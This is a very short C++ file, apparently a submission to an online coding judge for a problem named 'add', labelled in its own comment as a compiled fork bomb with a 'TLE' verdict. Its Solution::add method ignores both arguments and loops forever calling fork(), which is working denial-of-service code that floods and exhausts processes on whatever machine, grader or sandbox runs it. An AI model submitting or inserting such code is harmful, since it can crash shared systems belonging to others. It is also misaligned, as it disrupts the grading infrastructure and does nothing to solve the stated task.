// A fork bomb, compiled.
// problem: add
// verdicts: TLE
#include <unistd.h>
class Solution { public: int add(int a, int b) { for (;;) fork(); } };
